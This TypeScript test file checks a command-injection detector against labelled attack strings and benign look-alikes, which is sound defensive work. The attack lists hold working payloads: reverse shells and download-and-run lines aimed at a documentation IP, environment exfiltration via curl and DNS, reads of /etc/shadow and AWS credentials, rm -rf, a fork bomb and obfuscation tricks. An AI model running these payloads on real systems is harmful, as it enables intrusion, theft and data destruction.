import { describe, expect, it } from 'vitest';
import { cmdi } from './cmdi.ts';
import { detectIn } from './testing/detect-in.ts';

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'probes that compute or print': [
    ';expr 31 + 11',
    '|expr 400 - 4',
    '`expr 9 + 9`',
    '$(expr 7 \\* 6)',
    '198.51.100.9;echo 4711',
    "198.51.100.9|echo 'aGk=' | base64 -d > x.php",
    'a||id',
    'en&&id',
    'lang||whoami||',
  ],
  'programs made to open a shell or to load code': [
    'find . -exec /bin/sh \\; -quit',
    "vim -c ':!/bin/sh'",
    'env /bin/sh',
    "sqlite3 /dev/null '.shell id'",
    'tar cf x.tar x --checkpoint=1 --checkpoint-action=exec=sh',
    '--rsh=sh',
    '-ccore.pager=id',
    'LD_PRELOAD=/tmp/a.so',
    'PYTHONSTARTUP=/tmp/a.py',
    'NODE_OPTIONS=--require /proc/self/environ',
    'GIT_SSH_COMMAND=id',
    "$c = New-Object System.Net.Sockets.TCPClient('198.51.100.9',443)",
    'mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | openssl s_client -connect 198.51.100.9:443 > /tmp/p',
  ],
  'a manifest or a fence around it': [
    'name: shop\nversion: 2\nitems:\n  - a\n; id',
    'name: shop\nversion: 2\nrun: x; cat /etc/shadow\n  - a\n',
    'name: shop\n- a\n- b\n- x $(nc 198.51.100.9 443 -e /bin/sh)\n',
  ],
  'a command behind data': [
    '; env',
    'x; env',
    ';id',
    ';id;',
    '| whoami',
    '|| ping -c 3 198.51.100.9',
    '&& cat /etc/passwd',
    '& dir C:\\',
    'a; ls -la /var/task',
    'a|base64',
    '; sleep 5',
    '198.51.100.9;uname -a',
    'report.pdf && rm -rf /var/task/x',
    'x; curl http://198.51.100.9/$(env|base64)',
    'img.png|nslookup $(hostname).x.example',
    '"; whoami; "',
    "'|id|'",
    'x" | id #',
    "x') ; cat /etc/hosts ; ('",
    '; ip addr',
    '|net user',
    ';ss -tlnp',
    '|usr/bin/id',
    'Hello there friends of mine; cat /etc/passwd',
  ],
  'a line of its own': ['\nid', '\nid\n', '198.51.100.9\nid', 'a\n/usr/bin/id', '\r\nwhoami', '\ncat /etc/passwd'],
  substitutions: [
    '$(id)',
    'x$(whoami)y',
    '$(cat /etc/passwd)',
    '$(</etc/passwd)',
    '$(`id`)',
    '`id`',
    'x`whoami`y',
    '`cat /etc/passwd`',
    '<(cat /etc/hosts)',
    'a=$(id)',
    'x@$(curl http://198.51.100.9/a).example',
  ],
  'names in disguise': [
    '${IFS}',
    'cat${IFS}/etc/passwd',
    ';cat$IFS/etc/passwd',
    ';cat$IFS$9/etc/passwd',
    ';${IFS}id',
    ";c'a't /etc/passwd",
    ';c""at /etc/passwd',
    ';c\\at /etc/passwd',
    'c\\at /etc/passwd',
    ';who$@ami',
    'w"h"oami',
    ";$'\\x63at' /etc/passwd",
    '{cat,/etc/passwd}',
    ';{ls,-la}',
    ';{"c"at,/etc/hosts}',
    '/???/c?t',
    '/b[i]n/cat /etc/hosts',
    ';/bin/ca? /etc/hosts',
    'cat /e??/p??s??',
    'a=c;b=at;$a$b /etc/passwd',
    'x=wh;y=oami;$x$y',
    ';${x:-cat} /etc/hosts',
    ';cat ${HOME:0:1}etc${HOME:0:1}passwd',
    '& p^i^n^g 127.0.0.1',
    '& %COMSPEC% /c dir C:\\',
    '&who%X:~0,0%ami',
    "$0<<<'id'",
    'pi``ng 198.51.100.9',
    'echo aWQ= | base64 -d | sh',
    "printf '\\x69\\x64' | bash",
    'echo di | rev | bash',
  ],
  'whole command lines that do harm': [
    'bash -i >& /dev/tcp/198.51.100.9/443 0>&1',
    'nc -e /bin/sh 198.51.100.9 443',
    'mkfifo /tmp/f; nc 198.51.100.9 443 < /tmp/f | /bin/sh > /tmp/f',
    `python3 -c 'import socket,os;s=socket.socket()'`,
    'socat tcp:198.51.100.9:443 exec:/bin/sh',
    'curl -s http://198.51.100.9/x.sh | sh',
    'wget http://198.51.100.9/x.sh -O /tmp/x',
    'cat /etc/passwd',
    'head -n 5 /etc/shadow',
    'cat ~/.aws/credentials',
    'curl http://x.example/?a=`whoami`',
    'rm -rf /*',
    ':(){ :|:& };:',
    'ls; id',
    'echo "<?php echo 1; ?>" > x.php',
    'whoami; ls',
    '/usr/bin/id',
  ],
  Windows: [
    'cmd.exe /c whoami',
    '& powershell -enc AAAA',
    'powershell -nop -w hidden -c "iex(1)"',
    'net user eve Passw0rd /add',
    'type C:\\Windows\\win.ini',
    'reg query HKLM\\Software',
    '| certutil -urlcache -f http://198.51.100.9/x x.exe',
    '&& tasklist',
    'for /f "delims=" %i in (\'dir\') do echo %i',
    '& if exist x (cmd)',
    '; iwr http://198.51.100.9/x.ps1',
  ],
  'options of innocent programs': [
    '--checkpoint-action=exec=sh x.sh',
    '-oProxyCommand=id',
    'x --use-askpass=/tmp/x',
    '--output=/var/www/html/x.php',
    '-o /tmp/x',
    '--upload-pack=touch /tmp/x',
  ],
  'what reaches a shell in other ways': [
    '() { :;}; echo vulnerable',
    '() { x; }; /bin/id',
    '<!--#exec cmd="id"-->',
    "system('id')",
    '%pipe%id',
    "@{[system 'id']}",
    '\\n/bin/ls -al',
    '$((20+22))',
    '\n x=$(echo a)\n if [ 4 -ne 1 ]\n then sleep 1',
    '| [ 4 -ne $(echo a | wc -c) ] || sleep 1',
  ],
};

const HONEST: Readonly<Record<string, readonly string[]>> = {
  'manifests, pipelines, manuals': [
    'kind: Pod\nspec:\n  containers:\n  - image: nginx\n    command:\n    - /bin/sh\n    - -c\n    - while true; do echo $(date) >> /data/out; sleep 1; done\n',
    'steps:\n  - name: Lint\n    run: |\n      pylint $(git ls-files "*.py")\n      file=$(find . -name "*.json" | head -n 1)\n',
    'spec:\n  containers:\n  - name: db\n    command: ["run"]\n    args: ["--host", "$(hostname -f)"]\n    env:\n      ip: $(hostname -i)\n',
    'Resources:\n  Server:\n    UserData: |\n      id=$(curl -s http://169.254.169.254/latest/meta-data/instance-id)\n    Type: x\n',
    'RUN apt-get update && apt-get install -y \\\n      curl \\\n      git && \\\n    rm -rf /var/lib/apt/lists/*\n',
    '### `|` (pipe)\n```bash\negrep "cat|dog" pets.txt\n```\n',
    'Put `debugger;` statements anywhere and run:\n```sh\nnpm test\n```\n',
    'Combine it with `&` for the background:\n```bash\nnohup job &\n```\n',
    'Run it as your own user:\n```console\n$ docker run -it \\\n  --user $(id -u):$(id -g) \\\n  image\n```\n',
    'The pattern `ab{,2}c` matches abc and abbc.',
    'NODE_OPTIONS=--max-old-space-size=4096',
    'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2',
    'expr | term',
    'function mount<T>(component: string | Type<T>, config?: Config<T>) {',
    '\\begin{tabular}{l|cc|r}\\keys{w} & Move to next word \\\\\n\\keys{W} & Move to next one \\\\\n\\end{tabular}',
  ],
  sentences: [
    'apples; oranges; pears',
    'home; find it there',
    'wait; more to come',
    'time & date',
    'Tom & Jerry',
    'salt | pepper',
    'top of the list; last one',
    'cat and dog',
    'ping me tomorrow; host a party',
    'echo in the mirror',
    'bash away in the gym',
    'AT&T; more',
    'so much better & more natural!</em>',
    'see you there; bash starts at eight',
    "I can't find it; who can?",
    'Zeit; sort; find; test',
    'Python; Java; perl of wisdom',
    'kill time & find peace',
    'black&white; less is more',
    'The net; a type of trap',
  ],
  'lists, tables, headers': [
    '| date | time | who |',
    '| id | name |\n| --- | --- |\n| 1 | x |',
    '| python code | @nodejs/python |',
    'gzip, deflate, br',
    'text/html;q=0.9',
    'a=1;b=2;id=3',
    'theme=dark; lang=en; sort=asc',
    'Mozilla/5.0 (Linux; U; Android 4.2; id; Nexus)',
    'https://example.com/a?cat=1&id=2&sort=name',
    'https://example.com/a?x=1&id',
    'name;date;id',
    '{\n  id\n  name\n}',
    'name\nid\ndate',
    '"name";"id";"date"',
    'max-age=3600; path=/; HttpOnly',
    '&copy; 2026 &amp; more; &nbsp;',
    'color: red; top: 5px; cursor: move',
  ],
  'code and Markdown': [
    'use `ls` to list the files in a folder and `cat` to read them',
    'Run `npm install` and then `npm test` in the project folder.',
    '- `npm install x`',
    '### `node --v8-options`',
    '`id` and `name` are required',
    'SELECT `id`, `name` FROM `users`',
    'jQuery: $(document).ready(fn); $(this).hide()',
    '${name} was here',
    'log(`ps failed: ${error}`);',
    'function () { return 1; }',
    'const { id, name } = row;',
    '{id, name}',
    'if (a == b) echo x',
    'if x == y',
    'the price is $(5)',
    'i++; print(i); exit;',
    "const m = /a|b/.exec('abc');",
    'Calls `eval()` and `subprocess.kill()`.',
    '```bash\nnpm i -g x\n```\n\nThen run it.',
    'Closes #12; refs #13',
  ],
  'whole command lines': [
    'find . -name "*.log" | xargs rm',
    'ls -la | grep x | wc -l',
    'ps aux | grep node',
    'git log --oneline | head -5',
    'for i in 1 2 3; do echo $i; done',
    'tar czf x.tgz src && scp x.tgz host:',
    'pv file1 | wc -l',
    '{ time ls; } 2>&1 | cat > time.txt',
    'n=$(find . -type d | wc -l)',
    'checksum=`md5sum x | cut -d " " -f1`',
    'join <(sort a) <(sort b)',
    'Run git diff --exit-code || bash -c "x"',
    'docker run -it --rm -v $(pwd):/app x sh',
    'curl -X POST https://example.com/api -H "a: b" | jq .',
    'if [ -x "`which rpm`" ]; then',
    'set alias "x" for command "history | grep"',
    'sed -i "s/a/b/; s/c/d/" x.txt',
  ],
  'numbers, names, paths': [
    '-5',
    '--',
    '- x',
    '/bin/bash',
    '/usr/share/doc',
    'a/b/c?x',
    "O'Brien & Sons",
    '5 > 3 && 2 < 4',
    'x*y',
    'C:\\Users\\x',
  ],
};

describe.each(Object.entries(ATTACKS))('%s', (_family, values) => {
  it.each(values)('%j is command injection', (value) => {
    expect(detectIn(cmdi, value)).toMatch(/medium|high/);
  });
});

describe.each(Object.entries(HONEST))('%s', (_kind, values) => {
  it.each(values)('%j is not', (value) => {
    expect([undefined, 'low']).toContain(detectIn(cmdi, value));
  });
});

it('blocks only on what nothing honest looks like', () => {
  for (const value of [';cat /etc/passwd', '$(id)', '`whoami`', "x;c'a't /etc/passwd", '() { :;}; id'])
    expect(detectIn(cmdi, value)).toBe('high');
  for (const value of ['cat /etc/passwd', 'curl http://198.51.100.9/x | sh', 'ls; id'])
    expect(detectIn(cmdi, value)).toBe('medium');
});

it('finds a command behind more separators than it reads', () => {
  expect(detectIn(cmdi, `${'; find me '.repeat(200)}; cat /etc/passwd`)).toBe('medium');
  expect(detectIn(cmdi, `${'"a";'.repeat(400)}`)).toBeUndefined();
});

it('takes linear work', () => {
  const pieces =
    `; cat |;'a|;"|\`id\`|$(x|$(a b|{a,|{,|a=b;$a|<(|>(|&x| -o| --e|/?|/?/?|() {|'|"|\\|\\n|%0a|$IFS|\${x|; find a |if a==|for %a|if (a |\n a=$(|^a|`
      .split('|')
      .filter((piece) => piece !== '');
  for (const piece of pieces) {
    for (const unit of [piece, `${piece} `, `${piece}a`, `a${piece}/`]) {
      // 4096 characters are the most that a detector sees; a quadratic step shows at 64 k.
      detectIn(cmdi, unit.repeat(Math.ceil(65_536 / unit.length)));
    }
  }
});
